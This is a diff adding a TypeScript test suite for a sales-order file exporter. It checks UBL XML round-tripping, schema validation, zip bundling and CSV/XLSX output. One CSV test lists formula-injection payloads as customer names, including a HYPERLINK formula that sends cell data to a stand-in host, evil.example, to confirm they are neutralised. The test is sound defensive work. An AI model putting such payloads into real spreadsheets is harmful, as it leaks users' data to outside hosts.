@@ -1,0 +1,226 @@
+/** Orders as files: what other programs read in them, and what ours reads back. */
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { expect } from 'chai';
+import fc from 'fast-check';
+import { describe, it } from 'mocha';
+import { CFB, read, utils } from 'xlsx';
+import { validateXML } from 'xmllint-wasm';
+import { embeddedDocument } from '../../../src/adapters/documents/xml/embedded.ts';
+import { orderFiles } from '../../../src/adapters/order-files/order-files.ts';
+import type { OrderForFile } from '../../../src/domain/sales-order/order-files.port.ts';
+
+/** The schemas of OASIS are theirs: they stand beside the project, not in it. UBL_SCHEMAS names another place. */
+const schemas = process.env.UBL_SCHEMAS ?? '../shared/vectors/ubl-2.1/xsd';
+
+const line = {
+  line: 1,
+  product_code: 'HB-8',
+  product_name: 'Hex bolt M8',
+  ean: '4012345001235',
+  code: 'B-77',
+  name: 'Bolt "M8" & nut <steel>',
+  qty: 1000.5,
+  unit: 'pcs',
+  unit_code: 'C62',
+  price: 0.0125,
+  discount: null,
+  amount: 12.51,
+};
+const order: OrderForFile = {
+  sales_order: 'b7f7c1de-0f4e-4a3e-9d43-0c4a4f4f8a04',
+  reference: 'SO-2026-000001',
+  status: 'APPROVED',
+  po_number: 'PO-4711',
+  order_date: '2026-11-20',
+  delivery_date: '2026-12-01',
+  currency: 'EUR',
+  total: 14.89,
+  customer_code: 'C-100',
+  customer_name: 'Åsa Berg & Söner',
+  customer_tax_number: 'SE556012579001',
+  customer_email: 'asa@buyer.example',
+  warehouse_code: 'MAIN',
+  warehouse_name: 'Main',
+  lines: [line, { ...line, line: 2, product_code: null, product_name: null, ean: null, discount: 5, unit_code: null }],
+  created_at: '2026-11-20T09:00:00.000Z',
+};
+const bare: OrderForFile = {
+  ...order,
+  po_number: null,
+  order_date: null,
+  delivery_date: null,
+  currency: null,
+  total: null,
+  customer_code: null,
+  customer_name: null,
+  customer_tax_number: null,
+  customer_email: null,
+  warehouse_code: null,
+  warehouse_name: null,
+  lines: [],
+};
+
+const ubl = async (one: OrderForFile): Promise<Buffer> => (await orderFiles.write('ubl', [one], 'Seller GmbH')).bytes;
+const asText = (value: number | null): string | null => (value === null ? null : String(value));
+
+/** What is written, in the words of the reader. */
+const expected = (one: OrderForFile) => ({
+  number: one.po_number ?? one.reference,
+  issueDate: one.order_date,
+  deliveryDate: one.delivery_date,
+  currency: one.currency,
+  buyer: {
+    name: one.customer_name,
+    email: one.customer_email,
+    phone: null,
+    taxNumber: one.customer_tax_number,
+    code: one.customer_code,
+  },
+  grand: asText(one.total),
+  lines: one.lines.map(({ name, product_code, code, ean, qty, unit_code, price, amount }) => ({
+    name,
+    sellerCode: product_code,
+    buyerCode: code === product_code ? null : code,
+    globalCode: ean,
+    qty: asText(qty),
+    unit: unit_code,
+    price: asText(price),
+    amount: asText(amount),
+    deliveryDate: null,
+  })),
+});
+const readBack = (bytes: Buffer) => {
+  const read = embeddedDocument(bytes);
+  if (!read) throw new Error('it is not read as an order');
+  const { number, issueDate, deliveryDate, currency, buyer, totals, lines, syntax, typeCode, seller } = read;
+  expect({ syntax, typeCode, seller: seller.name }).to.deep.equal({ syntax: 'ubl', typeCode: '220', seller: 'Seller GmbH' });
+  return { number, issueDate, deliveryDate, currency, buyer, grand: totals.grand, lines };
+};
+
+describe('an order as UBL 2.1', () => {
+  it('is read back by our own reader as it was written', async () => {
+    expect(readBack(await ubl(order))).to.deep.equal(expected(order));
+  });
+
+  it('is read back whatever its texts and numbers are', async () => {
+    const text = fc
+      .string({ unit: 'binary', minLength: 1, maxLength: 40 })
+      .map((given) =>
+        given
+          .replaceAll(/[^\p{L}\p{N}\p{P}\p{S} ]/gu, 'x')
+          .replace(/\s+/g, ' ')
+          .trim(),
+      )
+      .filter((given) => given !== '');
+    const amount = fc.integer({ min: 1, max: 10 ** 9 }).map((units) => units / 10_000);
+    const anyLine = fc.record({ name: text, code: text, product_code: text, qty: amount, price: amount, amount });
+    await fc.assert(
+      fc.asyncProperty(text, text, fc.array(anyLine, { minLength: 1, maxLength: 5 }), amount, async (po, name, lines, total) => {
+        const one = {
+          ...order,
+          po_number: po,
+          customer_name: name,
+          total,
+          lines: lines.map((given, index) => ({ ...line, ...given, line: index + 1 })),
+        };
+        expect(readBack(await ubl(one))).to.deep.equal(expected(one));
+      }),
+      { numRuns: 100 },
+    );
+  });
+
+  it('is valid against the schema of OASIS, also where much is missing', async function () {
+    if (!existsSync(schemas)) {
+      console.log(
+        `    SKIPPED: no schemas of UBL 2.1 at ${schemas}; they are at docs.oasis-open.org/ubl/os-UBL-2.1 (the folder xsd)`,
+      );
+      return this.skip();
+    }
+    const fileAt = (folder: string) => (name: string) => ({
+      fileName: `${folder}/${name}`,
+      contents: readFileSync(`${schemas}/${folder}/${name}`, 'utf8'),
+    });
+    // the one document type among the schemas; what it includes lies where it says
+    const main = fileAt('maindoc')('UBL-Order-2.1.xsd');
+    const common = readdirSync(`${schemas}/common`).map(fileAt('common'));
+    const validate = async (contents: string) => {
+      const xml = [{ fileName: 'order.xml', contents }];
+      const schema = [{ fileName: 'UBL-Order-2.1.xsd', contents: main.contents.replaceAll('../common/', 'common/') }];
+      return validateXML({ xml, schema, preload: common, initialMemoryPages: 1_024, maxMemoryPages: 8_192 });
+    };
+    for (const one of [order, bare, { ...order, lines: [] }, { ...order, currency: null }]) {
+      const { valid, errors } = await validate((await ubl(one)).toString());
+      expect(errors.map(({ message }) => message)).to.deep.equal([]);
+      expect(valid).to.equal(true);
+    }
+    const broken = (await ubl(order)).toString().replace('<cbc:IssueDate>2026-11-20</cbc:IssueDate>', '');
+    expect((await validate(broken)).valid, 'the schema says no, too').to.equal(false);
+    return undefined;
+  });
+
+  it('of several orders is a zip with a file for each', async () => {
+    const { bytes, mediaType, ending } = await orderFiles.write(
+      'ubl',
+      [order, { ...bare, reference: 'SO-2026-000002' }],
+      'Seller GmbH',
+    );
+    expect({ mediaType, ending }).to.deep.equal({ mediaType: 'application/zip', ending: 'zip' });
+    expect(bytes.subarray(0, 4).toString('latin1')).to.equal('PK\u0003\u0004');
+    const { FullPaths } = CFB.read(bytes, { type: 'buffer' });
+    expect(
+      (FullPaths as readonly string[]).filter((name) => name.endsWith('.xml')).map((name) => name.split('/').at(-1)),
+    ).to.deep.equal(['SO-2026-000001.xml', 'SO-2026-000002.xml']);
+  });
+});
+
+describe('orders as tables', () => {
+  const tableOf = (bytes: Buffer) => {
+    const book = read(bytes, { type: 'buffer', raw: true });
+    const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
+    return { sheet, rows: utils.sheet_to_json<Record<string, unknown>>(sheet, { defval: null }) };
+  };
+
+  it('as CSV have a row for each line, quoted where that is needed', async () => {
+    const { bytes, mediaType } = await orderFiles.write('csv', [order, bare], 'Seller GmbH');
+    expect(mediaType).to.equal('text/csv; charset=utf-8');
+    const text = bytes.toString();
+    expect(text.startsWith('\ufeffreference,status,po_number,')).to.equal(true);
+    expect(text).to.include('"Bolt ""M8"" & nut <steel>"');
+    expect(text.trimEnd().split('\r\n')).to.have.length(4);
+    const { rows } = tableOf(bytes);
+    expect(rows[0]).to.deep.include({
+      reference: 'SO-2026-000001',
+      customer_name: 'Åsa Berg & Söner',
+      line: '1',
+      qty: '1000.5',
+      price: '0.0125',
+    });
+    expect(rows[2]).to.deep.include({ reference: 'SO-2026-000001', line: null, sales_order: bare.sales_order });
+  });
+
+  it('as CSV hold no formula, whatever a customer has written', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1'];
+    for (const formula of formulas) {
+      const { bytes } = await orderFiles.write('csv', [{ ...order, customer_name: formula, lines: [] }], 'x');
+      const [, row = ''] = bytes.toString().split('\r\n');
+      expect(row, formula).to.match(/,(?:"?)'/);
+      expect(row, formula).not.to.match(/(?:^|,)"?[=+\-@\t\r＝]/);
+    }
+    const { bytes } = await orderFiles.write('csv', [{ ...order, lines: [{ ...line, qty: -5 }] }], 'x');
+    expect(bytes.toString(), 'a number is none').to.include(',-5,');
+  });
+
+  it('as XLSX hold numbers as numbers and texts as texts, none of them a formula', async () => {
+    const risky = { ...order, customer_name: '=1+1', po_number: '0815' };
+    const { rows, sheet } = tableOf((await orderFiles.write('xlsx', [risky, bare], 'Seller GmbH')).bytes);
+    expect(rows).to.have.length(3);
+    expect(rows[0]).to.deep.include({
+      customer_name: '=1+1',
+      po_number: '0815',
+      qty: 1000.5,
+      total: 14.89,
+      delivery_date: '2026-12-01',
+    });
+    for (const cell of Object.values(sheet)) expect(cell).not.to.have.property('f');
+  });
+});
